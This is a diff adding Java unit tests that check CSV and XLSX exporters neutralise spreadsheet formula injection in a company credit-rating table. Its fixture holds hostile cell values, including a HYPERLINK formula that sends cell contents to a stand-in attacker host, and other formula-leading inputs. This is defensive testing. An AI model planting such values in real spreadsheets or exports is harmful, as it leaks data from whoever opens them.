@@ -8,6 +8,8 @@ import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
@@ -49,6 +51,48 @@ class ExportWritersTest {
             assertThat(sheet.getLastRowNum()).isEqualTo(3);
             for (int i = 0; i < TABLE.rows().size(); i++) {
                 assertThat(cells(sheet.getRow(i + 1))).isEqualTo(TABLE.rows().get(i));
+            }
+        }
+    }
+
+    private static final ExportTable HOSTILE = new ExportTable(
+            "重点监管", List.of("统一社会信用代码", "企业名称", "信用等级"),
+            List.of(List.of("91110112MA0012003X", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "C"),
+                    List.of("91110112MA0012004X", "@SUM(1)", "D"),
+                    List.of("91110112MA0012005X", "-2+3", "+1"),
+                    List.of("91110112MA0012006X", "\t=1+1", "\r=2"),
+                    List.of("91110112MA0012007X", "安全-公司=", "A")));
+
+    @Test
+    void csvPutsAQuoteBeforeEveryCellThatStartsLikeAFormula() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        CsvExport.write(HOSTILE, out);
+        byte[] bytes = out.toByteArray();
+
+        List<List<String>> rows = parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8)).subList(1, 6);
+        assertThat(rows).extracting(row -> row.get(1)).containsExactly(
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "'@SUM(1)", "'-2+3", "'\t=1+1", "安全-公司=");
+        assertThat(rows.get(2).get(2)).isEqualTo("'+1");
+        assertThat(rows.get(3).get(2)).isEqualTo("'\r=2");
+        assertThat(rows.get(0).get(0)).isEqualTo("91110112MA0012003X");
+    }
+
+    @Test
+    void xlsxWritesCellsThatStartLikeAFormulaAsQuotePrefixedTextWithTheirValue() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        XlsxExport.write(HOSTILE, out);
+
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
+            Sheet sheet = workbook.getSheetAt(0);
+            for (int i = 0; i < HOSTILE.rows().size(); i++) {
+                for (int column = 0; column < 3; column++) {
+                    Cell cell = sheet.getRow(i + 1).getCell(column);
+                    String value = HOSTILE.rows().get(i).get(column);
+                    assertThat(cell.getCellType()).as(value).isEqualTo(CellType.STRING);
+                    assertThat(cell.getStringCellValue()).isEqualTo(value);
+                    assertThat(cell.getCellStyle().getQuotePrefixed()).as(value)
+                            .isEqualTo("=+-@\t\r".indexOf(value.charAt(0)) >= 0);
+                }
             }
         }
     }
